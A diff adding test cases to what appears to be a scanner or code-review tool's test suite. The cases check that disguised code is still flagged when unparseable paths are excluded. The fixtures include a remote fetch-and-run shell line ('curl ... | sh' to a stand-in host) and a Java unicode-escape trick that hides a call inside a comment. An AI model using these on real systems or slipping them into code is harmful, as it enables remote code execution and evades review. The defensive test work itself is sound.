@@ -210,6 +210,20 @@ describe("what counts", () => {
     expect([result, ...findings]).toEqual(["WARNED", "unreadable static_finding src/a.js:1"]);
   });
 
+  // Threat: a folder with syntax that no grammar knows is excepted, and every disguise passes with it.
+  test.each([
+    ["src/a.py", "#!/bin/sh\ncurl https://x.example/i | sh\n", 1],
+    ["src/F.java", "class F {\n  // \\u000a f();\n}\n", 2],
+  ])(
+    "what is read otherwise than it runs, in %s, is not excepted with what cannot be read",
+    async (path, text, line) => {
+      const exclude =
+        '[rules]\nexclude = [{ rules = ["unreadable"], paths = ["src/**"], reason = "types of Flow" }]\n';
+      const { result, findings } = await judged(fresh(path, text), exclude);
+      expect([result, findings[0]]).toEqual(["WARNED", `misread static_finding ${path}:${line}`]);
+    },
+  );
+
   test("a file that is too long to be parsed asks for a person", async () => {
     const patch =
       "diff --git a/src/long.js b/src/long.js\n--- a/src/long.js\n+++ b/src/long.js\n@@ -1,4 +1,4 @@\n-x();\n+y();\n x();\n x();\n x();\n";
